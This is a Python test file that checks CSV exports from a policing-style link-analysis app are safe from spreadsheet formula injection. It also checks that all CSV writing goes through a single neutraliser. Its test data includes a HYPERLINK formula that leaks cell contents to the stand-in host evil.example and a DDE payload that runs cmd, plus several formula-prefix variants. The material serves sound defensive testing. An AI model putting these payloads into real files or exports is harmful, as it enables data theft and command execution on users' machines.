"""Every CSV linkwatch writes is safe to open in a spreadsheet (OWASP CSV injection).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel and its kin. Each export below carries such text from the data (subject names, audit
reasons, bad ingest values); each test reads the CSV back with the csv module and checks that
no cell is live and that the original text is still there behind the leading quote.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner

from app.auth import audit
from app.cli import main
from graph import csvout
from ingest.pipeline import run_ingest
from tests.scenarios import write_folder

REPO = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SUM = "=1+1"
LIVE = ("=", "+", "-", "@", "\t", "\r")

TODAY = dt.date.today()
RECENT = (TODAY - dt.timedelta(days=60)).isoformat()


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV text, header included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str, *originals: str) -> None:
    """No cell is live, and each original survives whole behind one leading quote."""
    cells = cells_of(text)
    live = [c for c in cells if c.startswith(LIVE)]
    assert not live, f"live formula cells: {live}"
    for original in originals:
        assert "'" + original in cells, f"{original!r} lost or changed"


def _tier2_offences(subject: str) -> dict[str, list[dict]]:
    """A rape and three other sexual offences, reported recently: Tier 2."""
    offences, links = [], []
    for i, code in enumerate(["19C", "20A", "20A", "20A"]):
        oid = f"O-{subject}-{i}"
        offences.append(
            {
                "offence_id": oid,
                "ho_code": code,
                "reported_on": RECENT,
                "committed_from": (TODAY - dt.timedelta(days=400 - i)).isoformat(),
                "location_id": "L1",
                "domestic": "false",
            }
        )
        links.append({"offence_id": oid, "subject_id": subject, "role": "suspect"})
    return {"offences": offences, "offence_subjects": links}


def formula_named_tier2_subjects(folder: Path) -> Path:
    """Two Tier 2 subjects whose names are spreadsheet formulas (a link that leaks, a DDE call)."""
    one, two = _tier2_offences("S1"), _tier2_offences("S2")
    return write_folder(
        folder,
        subjects=[
            {"subject_id": "S1", "forename": HYPERLINK, "surname": ""},
            {"subject_id": "S2", "forename": DDE, "surname": "", "aliases": DDE},
        ],
        locations=[{"location_id": "L1", "name": "The Fictional Arms"}],
        offences=one["offences"] + two["offences"],
        offence_subjects=one["offence_subjects"] + two["offence_subjects"],
    )


@pytest.fixture
def formula_force(db, tmp_path):
    """The database holding :func:`formula_named_tier2_subjects`."""
    folder = formula_named_tier2_subjects(tmp_path / "force")
    summary = run_ingest(folder, db=db, quarantine_dir=tmp_path / "q", progress=False)
    assert summary["totals"]["quarantined"] == 0, summary
    return db


# --- the neutraliser ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param(HYPERLINK, "'" + HYPERLINK, id="hyperlink-that-leaks"),
        pytest.param(DDE, "'" + DDE, id="dde-call"),
        pytest.param("+1+1", "'+1+1", id="plus-formula"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus-formula"),
        pytest.param("\t=1+1", "'\t=1+1", id="leading-tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="leading-carriage-return"),
        pytest.param("\uff1d1+1", "'\uff1d1+1", id="fullwidth-equals"),
        pytest.param("\uff20SUM(1)", "'\uff20SUM(1)", id="fullwidth-at"),
        pytest.param("-1.5", "-1.5", id="negative-number-stays-a-number"),
        pytest.param("-0.100200", "-0.100200", id="longitude-west-of-greenwich"),
        pytest.param("+447700900123", "+447700900123", id="international-phone-number"),
        pytest.param(-3, "-3", id="negative-int"),
        pytest.param("1e-3", "1e-3", id="exponent"),
        pytest.param("-", "'-", id="lone-minus"),
        pytest.param("-inf", "'-inf", id="minus-word"),
        pytest.param("Adam = Testerton", "Adam = Testerton", id="formula-sign-inside"),
        pytest.param("", "", id="empty"),
        pytest.param(None, "", id="none"),
        pytest.param(True, "True", id="bool"),
    ],
)
def test_the_neutraliser(value, expected):
    assert csvout.neutralise(value) == expected


def test_written_rows_keep_their_columns_and_every_character():
    rows = [{"id": "S1", "name": HYPERLINK, "ignored": "=x"}, ["S2", 'a, "b"\n=c'], {"id": "S3"}]
    text = csvout.to_text(["id", "name"], rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["id", "name"],
        ["S1", "'" + HYPERLINK],
        ["S2", 'a, "b"\n=c'],
        ["S3", ""],
    ]
    assert text.endswith("\r\n")


def test_a_table_is_neutralised_like_rows():
    data = {"id": ["S1", "S2", "S3", None], "v": [HYPERLINK, "-0.5", DDE, "\t1"]}
    out = io.StringIO()
    assert csvout.write_table(out, pa.table(data)) == 4
    rows = [dict(zip(data, cells, strict=True)) for cells in zip(*data.values(), strict=True)]
    assert out.getvalue() == csvout.to_text(list(data), rows)


# --- every CSV linkwatch writes ------------------------------------------------------------


@pytest.mark.neo4j
def test_the_cli_tier_list_as_csv(formula_force, neo4j_env):
    result = CliRunner().invoke(main, ["tiers", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_defused(result.stdout, HYPERLINK, DDE)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted((r["subject_id"], r["tier"]) for r in rows) == [("S1", "2"), ("S2", "2")]


@pytest.mark.neo4j
def test_the_web_tier_list_export(formula_force, client_as):
    response = client_as("analyst").get(f"/tiers.csv?as_of={TODAY}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert_defused(text, HYPERLINK, DDE)
    assert {r["subject_id"] for r in csv.DictReader(io.StringIO(text))} == {"S1", "S2"}


@pytest.mark.neo4j
def test_the_audit_log_export(db, client_as):
    audit.record("view", "Subject", SUM, reason=HYPERLINK, username=DDE, db=db)
    response = client_as("admin").get("/admin/audit.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert_defused(text, HYPERLINK, DDE, SUM)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["action"] == "view")
    assert (row["target_id"], row["reason"], row["username"]) == (
        "'" + SUM,
        "'" + HYPERLINK,
        "'" + DDE,
    )


@pytest.mark.neo4j
def test_the_ingest_quarantine_report(db, tmp_path):
    folder = write_folder(
        tmp_path / "export",
        subjects=[
            {"subject_id": "S1", "forename": "Adam", "surname": "Testerton"},
            {"subject_id": "S2", "forename": "Eve", "dob": SUM},
        ],
        locations=[
            {"location_id": "L1", "name": "The Fictional Arms"},
            {"location_id": "L2", "lat": HYPERLINK},
        ],
    )
    summary = run_ingest(folder, db=db, quarantine_dir=tmp_path / "q", progress=False)
    assert summary["totals"]["quarantined"] == 2
    text = Path(summary["quarantine_file"]).read_text(encoding="utf-8")
    assert_defused(text, HYPERLINK, SUM)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == ["file", "row", "column", "reason", "value", "record"]
    assert {(r["file"], r["column"], r["value"]) for r in rows} == {
        ("subjects.csv", "dob", "'" + SUM),
        ("locations.csv", "lat", "'" + HYPERLINK),
    }


# --- no CSV can bypass graph/csvout.py ----------------------------------------------------


def _csv_writers(path: Path) -> list[str]:
    """Calls in ``path`` that write CSV without graph.csvout: csv.writer/DictWriter, .to_csv."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"from csv import {a.name}"
                for a in node.names
                if a.name in ("writer", "DictWriter", "*")
            ]
        elif isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
            owner = node.value.id if isinstance(node.value, ast.Name) else None
            if node.attr == "to_csv" or owner == "csv" or node.attr == "DictWriter":
                found.append(f"line {node.lineno}: {ast.unparse(node)}")
    return found


def test_no_module_writes_csv_without_csvout():
    own = REPO / "graph" / "csvout.py"
    modules = [p for package in ("app", "graph", "ingest") for p in (REPO / package).rglob("*.py")]
    assert own in modules
    offenders = {
        str(p.relative_to(REPO)): found for p in modules if p != own and (found := _csv_writers(p))
    }
    assert not offenders, f"write CSV through graph.csvout instead: {offenders}"


def test_the_bypass_check_sees_each_way_of_writing_csv(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import csv\nfrom csv import DictWriter\n"
        "csv.writer(f)\ncsv.DictWriter(f, [])\nframe.to_csv(f)\n"
    )
    assert len(_csv_writers(bad)) == 4
